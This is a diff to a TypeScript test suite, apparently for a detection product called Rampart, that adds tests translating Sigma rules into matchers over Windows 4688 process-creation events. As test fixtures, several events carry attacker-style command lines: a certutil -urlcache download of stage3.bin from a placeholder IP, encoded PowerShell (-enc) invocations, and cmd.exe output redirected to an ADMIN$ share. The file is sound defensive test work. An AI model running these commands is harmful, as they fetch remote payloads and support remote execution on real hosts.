@@ -696,14 +696,14 @@ describe("Sigma → rejection, with a reason naming what cannot be evaluated", (
     {
       name: "a log source no connector ingests",
       yaml: y`
-        ${head("category: process_creation, product: windows")}detection:
+        ${head("category: process_creation, product: linux")}detection:
           selection:
-            Image|endswith: '\\whoami.exe'
+            Image|endswith: '/whoami'
           condition: selection
       `,
       problems: [
         expect.stringMatching(
-          /^UNSUPPORTED_LOGSOURCE logsource: no connector ingests this log source \(product: windows, category: process_creation\); supported: product: aws, service: cloudtrail; product: azure, service: activitylogs; /,
+          /^UNSUPPORTED_LOGSOURCE logsource: no connector ingests this log source \(product: linux, category: process_creation\); supported: product: aws, service: cloudtrail; product: azure, service: activitylogs; .*; product: windows, category: process_creation$/,
         ),
       ],
     },
@@ -723,17 +723,17 @@ describe("Sigma → rejection, with a reason naming what cannot be evaluated", (
       ],
     },
     {
-      name: "windash and encoding modifiers, and a modifier Sigma does not have",
+      name: "windash on a field that is not text, encoding modifiers, and a modifier Sigma does not have",
       yaml: y`
         ${CLOUDTRAIL}detection:
           selection:
-            userAgent|windash: '-enc'
+            sourceIPAddress|windash: '-enc'
             eventName|base64offset|contains: 'Stop'
             errorCode|fuzzy: x
           condition: selection
       `,
       problems: [
-        "UNSUPPORTED_MODIFIER detection.selection.userAgent|windash: |windash is not supported: expands - and / variants of Windows command-line flags, which our fields do not carry",
+        "UNSUPPORTED_MODIFIER detection.selection.sourceIPAddress|windash: |windash applies to text; sourceIPAddress is not text",
         "UNSUPPORTED_MODIFIER detection.selection.eventName|base64offset|contains: |base64offset is not supported: encoded values are not supported",
         "UNSUPPORTED_MODIFIER detection.selection.errorCode|fuzzy: |fuzzy is not a Sigma modifier Rampart supports",
       ],
@@ -984,6 +984,289 @@ describe("Sigma → rejection, with a reason naming what cannot be evaluated", (
       expect(rejection(yaml, options)).toEqual(problems);
     });
   }
+});
+
+describe("Sigma → Windows process creation (Sysmon event 1 semantics over 4688 records)", () => {
+  const PROCESS_CREATION = head("category: process_creation, product: windows");
+
+  /** A 4688 record (version 2: Windows 10 and later) of `image` started with `cmd` by CORP\adele.vance. */
+  function created(image: string, cmd: string, data: Record<string, unknown> = {}, version = 2): EventLike {
+    const event = normalize("WINDOWS_SECURITY", {
+      EventID: 4688,
+      Version: version,
+      TimeCreated: { SystemTime: "2026-11-20T09:00:00.000Z" },
+      EventRecordID: 7,
+      Channel: "Security",
+      Computer: "WS-7.corp.contoso.com",
+      EventData: {
+        SubjectUserSid: "S-1-5-21-3623811015-3361044348-30300820-1108",
+        SubjectUserName: "adele.vance",
+        SubjectDomainName: "CORP",
+        SubjectLogonId: "0x5a1f03",
+        NewProcessId: "0x1b40",
+        NewProcessName: image,
+        TokenElevationType: "%%1938",
+        ProcessId: "0x12f8",
+        CommandLine: cmd,
+        TargetUserSid: "S-1-0-0",
+        TargetUserName: "-",
+        TargetDomainName: "-",
+        TargetLogonId: "0x0",
+        ParentProcessName: "C:\\Windows\\explorer.exe",
+        MandatoryLabel: "S-1-16-8192",
+        ...data,
+      },
+    });
+    if ("reason" in event) throw new Error(event.reason);
+    return { ...event, connector: "WINDOWS_SECURITY" } as EventLike;
+  }
+  const WHOAMI = created("C:\\Windows\\System32\\WHOAMI.EXE", "whoami  /all");
+  /** Whether a rule over `selection` (YAML lines indented by four) matches the event, as its NRT predicate. */
+  const fires = (selection: string, event: EventLike) =>
+    compileFilterToPredicate(
+      filterOf(`${PROCESS_CREATION}detection:\n  selection:\n${selection}\n  condition: selection\n`),
+    )(event);
+
+  it("matches the 4688 records of the Windows Security connector, with the host, account and process as entities", () => {
+    const result = one(y`
+      ${PROCESS_CREATION}detection:
+        selection:
+          Image|endswith: '\\whoami.exe'
+          CommandLine|contains: '/all'
+          ParentImage|endswith: '\\explorer.exe'
+        condition: selection
+    `);
+    expect(result.problems).toEqual([]);
+    expect(result.spec!.filter).toEqual({
+      all: [
+        connector("WINDOWS_SECURITY"),
+        { field: "class_uid", op: "eq", value: 1007 },
+        { field: "attributes.event_data.NewProcessName", op: "endsWith", value: "\\whoami.exe" },
+        { field: "attributes.event_data.CommandLine", op: "contains", value: "/all" },
+        { field: "attributes.event_data.ParentProcessName", op: "endsWith", value: "\\explorer.exe" },
+      ],
+    });
+    expect(result.spec!.entityMappings).toEqual([
+      { entityType: "HOST", field: "device" },
+      { entityType: "ACCOUNT", field: "actor_user" },
+      { entityType: "PROCESS", field: "attributes.process.cmd_line" },
+      { entityType: "PROCESS", field: "attributes.process.name" },
+    ]);
+    const test = compileFilterToPredicate(result.spec!.filter);
+    expect(test(WHOAMI)).toBe(true);
+    // Another Windows event with the same fields is not a process creation.
+    expect(test({ ...WHOAMI, class_uid: 0 })).toBe(false);
+  });
+
+  it("reads backslashes in values as Sigma does: \\\\ is one backslash, \\ before anything else is itself, \\* a literal *", () => {
+    const path = (image: string) => created(image, "x");
+    const cases: Array<[string, EventLike, boolean]> = [
+      // Single-quoted YAML keeps the text; Sigma then reads \w as a backslash and a w.
+      ["    Image|endswith: '\\whoami.exe'", WHOAMI, true],
+      ["    Image|endswith: '\\whoami.exe'", path("C:\\Tools\\notwhoami.exe"), false],
+      // \\ is an escaped backslash: one backslash.
+      ["    Image|endswith: '\\\\whoami.exe'", WHOAMI, true],
+      // Double-quoted YAML unescapes first: "\\whoami.exe" is \whoami.exe for Sigma.
+      ['    Image|endswith: "\\\\whoami.exe"', WHOAMI, true],
+      ["    Image: 'c:\\windows\\system32\\whoami.exe'", WHOAMI, true],
+      // A trailing \ is literal; \\* is a backslash and a wildcard, \* a literal star.
+      ["    Image|startswith: 'C:\\Windows\\System32\\'", WHOAMI, true],
+      ["    Image|startswith: 'C:\\Windows\\'", path("C:\\WindowsApps\\x.exe"), false],
+      ["    Image: 'C:\\Windows\\System32\\\\*'", WHOAMI, true],
+      ["    Image: 'C:\\Windows\\System32\\*'", WHOAMI, false],
+      ["    Image: 'C:\\Windows\\System32\\*'", path("C:\\Windows\\System32*"), true],
+      // A UNC path: \\\\ is two backslashes.
+      [
+        "    CommandLine|contains: ' \\\\\\\\127.0.0.1\\ADMIN$\\'",
+        created(
+          "C:\\Windows\\System32\\cmd.exe",
+          "cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__1636727589 2>&1",
+        ),
+        true,
+      ],
+      // |re: \\ is a backslash, \. a dot.
+      ["    Image|re|i: '\\\\whoami\\.exe$'", WHOAMI, true],
+      ["    Image|re|i: '\\\\whoami\\.exe$'", path("C:\\Tools\\whoami.exe.bak"), false],
+    ];
+    for (const [selection, event, expected] of cases) {
+      const image = (event.attributes as { event_data: { NewProcessName: string } }).event_data
+        .NewProcessName;
+      expect({ selection, image, fires: fires(selection, event) }).toEqual({
+        selection,
+        image,
+        fires: expected,
+      });
+    }
+  });
+
+  it("compares text without case, with |contains|all over the command line", () => {
+    const certutil = created(
+      "C:\\Windows\\System32\\certutil.exe",
+      "CertUtil.exe -URLCache -split -f HTTP://198.51.100.23/stage3.bin C:\\Users\\Public\\svc.exe",
+    );
+    expect(fires("    CommandLine|contains|all:\n      - '-urlcache'\n      - 'http://'", certutil)).toBe(
+      true,
+    );
+    expect(fires("    CommandLine|contains|all:\n      - '-urlcache'\n      - 'https://'", certutil)).toBe(
+      false,
+    );
+    expect(fires("    CommandLine|endswith: '\\users\\public\\SVC.EXE'", certutil)).toBe(true);
+  });
+
+  it("expands |windash as pySigma does: a flag's leading - or / as -, /, en dash, em dash or horizontal bar", () => {
+    const encoded = (cmd: string) =>
+      created("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", cmd);
+    const selection = "    CommandLine|windash|contains:\n      - ' -enc '\n      - ' -ec '";
+    const result = one(`${PROCESS_CREATION}detection:\n  selection:\n${selection}\n  condition: selection\n`);
+    expect(result.problems).toEqual([]);
+    const contains = (value: string) => ({
+      field: "attributes.event_data.CommandLine",
+      op: "contains",
+      value,
+    });
+    expect(result.spec!.filter).toEqual({
+      all: [
+        connector("WINDOWS_SECURITY"),
+        { field: "class_uid", op: "eq", value: 1007 },
+        {
+          any: [" -enc ", " /enc ", " \u2013enc ", " \u2014enc ", " \u2015enc "]
+            .concat([" -ec ", " /ec ", " \u2013ec ", " \u2014ec ", " \u2015ec "])
+            .map(contains),
+        },
+      ],
+    });
+    for (const cmd of [
+      "powershell -ENC SQBFAFgA",
+      "powershell /enc SQBFAFgA",
+      "powershell \u2013ec SQBFAFgA",
+    ]) {
+      expect([cmd, fires(selection, encoded(cmd))]).toEqual([cmd, true]);
+    }
+    expect(fires(selection, encoded("powershell +enc SQBFAFgA"))).toBe(false);
+    // Each value in one of its variants with |all; a dash inside a word stays as it is.
+    const certutil = created(
+      "C:\\Windows\\System32\\certutil.exe",
+      "certutil /urlcache /split /f http://198.51.100.23/x.bin",
+    );
+    const all = "    CommandLine|windash|contains|all:\n      - '-urlcache '\n      - ' -f '";
+    expect(fires(all, certutil)).toBe(true);
+    expect(fires(all, created("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -split"))).toBe(
+      false,
+    );
+    expect(
+      one(`${PROCESS_CREATION}detection:\n  sel:\n    Image|windash: 'C:\\x-y\\z.exe'\n  condition: sel\n`)
+        .spec!.filter,
+    ).toMatchObject({
+      all: [{}, {}, { field: "attributes.event_data.NewProcessName", op: "eq", value: "C:\\x-y\\z.exe" }],
+    });
+    expect(
+      rejection(
+        `${PROCESS_CREATION}detection:\n  sel:\n    CommandLine|windash|contains: ' -a -b -c -d'\n    ProcessId|windash: 4\n  condition: sel\n`,
+      ),
+    ).toEqual([
+      'UNSUPPORTED_VALUE detection.sel.CommandLine|windash|contains: |windash: " -a -b -c -d" has 4 flags; at most 3 expand (125 values)',
+      "UNSUPPORTED_MODIFIER detection.sel.ProcessId|windash: |windash applies to text; ProcessId is not text",
+    ]);
+  });
+
+  it("compares process ids as Sysmon writes them, in decimal (4688 writes hex)", () => {
+    expect(fires("    ProcessId: 6976\n    ParentProcessId: '4856'", WHOAMI)).toBe(true);
+    expect(fires("    ProcessId: 6977", WHOAMI)).toBe(false);
+    expect(
+      rejection(
+        `${PROCESS_CREATION}detection:\n  selection:\n    ProcessId: '0x1b40'\n  condition: selection\n`,
+      ),
+    ).toEqual([
+      'UNSUPPORTED_VALUE detection.selection.ProcessId: ProcessId is numeric; "0x1b40" is not a number',
+    ]);
+  });
+
+  it("compares User with the account the new process runs as, DOMAIN\\user as Sysmon writes it", () => {
+    expect(fires("    User: 'CORP\\adele.vance'", WHOAMI)).toBe(true);
+    expect(fires("    User: 'corp\\\\ADELE.VANCE'", WHOAMI)).toBe(true);
+    // A service's process: created by LocalSystem, running as the target account the record names.
+    const service = created("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k LocalService", {
+      SubjectUserSid: "S-1-5-18",
+      SubjectUserName: "WS-7$",
+      TargetUserSid: "S-1-5-19",
+      TargetUserName: "LOCAL SERVICE",
+      TargetDomainName: "NT AUTHORITY",
+    });
+    expect(fires("    User: 'NT AUTHORITY\\LOCAL SERVICE'", service)).toBe(true);
+    expect(fires("    User|endswith: '$'", service)).toBe(false);
+    // LocalSystem is NT AUTHORITY\SYSTEM, not the computer's account 4688 names it by.
+    const system = created("C:\\Windows\\System32\\whoami.exe", "whoami", {
+      SubjectUserSid: "S-1-5-18",
+      SubjectUserName: "WS-7$",
+    });
+    expect(fires("    User|contains:\n      - 'AUTHORI'\n      - 'AUTORI'", system)).toBe(true);
+    expect(fires("    User|contains:\n      - 'AUTHORI'\n      - 'AUTORI'", WHOAMI)).toBe(false);
+    expect(fires("    User: 'CORP\\WS-7$'", system)).toBe(false);
+    // A record without the target fields (before Windows 10) does not say whose the process is.
+    const older = { TargetUserSid: undefined, TargetUserName: undefined, TargetDomainName: undefined };
+    const old = created("C:\\Windows\\System32\\whoami.exe", "whoami", older, 1);
+    expect(fires("    User|contains: 'adele'", old)).toBe(false);
+    expect(fires("    User|exists: false", old)).toBe(true);
+    // One that has them names its creator when the target is the NULL SID, whatever version it claims.
+    expect(fires("    User|contains: 'adele'", created("C:\\x.exe", "x", {}, 1))).toBe(true);
+  });
+
+  it("names the integrity level as Sysmon does, where the label tells it", () => {
+    const high = created("C:\\Windows\\System32\\cmd.exe", "cmd.exe", { MandatoryLabel: "S-1-16-12288" });
+    expect(fires("    IntegrityLevel: high", high)).toBe(true);
+    expect(fires("    IntegrityLevel:\n      - 'System'\n      - 'Medium'", high)).toBe(false);
+    expect(fires("    IntegrityLevel: 'S-1-16-12288'", high)).toBe(false);
+    expect(fires("    IntegrityLevel: Medium", WHOAMI)).toBe(true);
+    // Low may be an AppContainer process, which Sysmon names AppContainer: 4688 cannot tell.
+    const low = created("C:\\Windows\\System32\\cmd.exe", "cmd.exe", { MandatoryLabel: "S-1-16-4096" });
+    expect(fires("    IntegrityLevel|exists: true", low)).toBe(false);
+    expect(fires("    Computer|startswith: 'ws-7.'", low)).toBe(true);
+  });
+
+  it("refuses the fields a 4688 record does not have, naming them", () => {
+    const problems = rejection(y`
+      ${PROCESS_CREATION}detection:
+        selection:
+          OriginalFileName: certutil.exe
+          Hashes|contains: 'SHA256=0EB3CC9B'
+          ParentCommandLine|contains: explorer
+          CurrentDirectory: 'C:\\Windows\\Temp\\'
+          Company: Microsoft Corporation
+          LogonGuid: '{00000000-0000-0000-0000-000000000000}'
+          EventID: 4688
+        condition: selection
+    `);
+    expect(problems).toHaveLength(7);
+    expect(problems[0]).toBe(
+      "UNSUPPORTED_FIELD detection.selection.OriginalFileName: field OriginalFileName is not kept for windows/process_creation events (known fields: Image, CommandLine, ParentImage, ProcessId, ParentProcessId, User, IntegrityLevel, Computer)",
+    );
+    expect(problems.map((p) => p.split(":")[0])).toEqual(
+      [
+        "OriginalFileName",
+        "Hashes|contains",
+        "ParentCommandLine|contains",
+        "CurrentDirectory",
+        "Company",
+        "LogonGuid",
+        "EventID",
+      ].map((key) => `UNSUPPORTED_FIELD detection.selection.${key}`),
+    );
+  });
+
+  it("still rejects the other Sysmon categories: no connector ingests them", () => {
+    for (const category of ["image_load", "network_connection", "registry_set"]) {
+      expect(
+        rejection(y`
+          ${head(`category: ${category}, product: windows`)}detection:
+            selection:
+              Image|endswith: '\\rundll32.exe'
+            condition: selection
+        `),
+      ).toEqual([
+        expect.stringMatching(/^UNSUPPORTED_LOGSOURCE logsource: no connector ingests this log source/),
+      ]);
+    }
+  });
 });
 
 describe("Sigma import input: multi-document YAML, limits and hostile documents", () => {
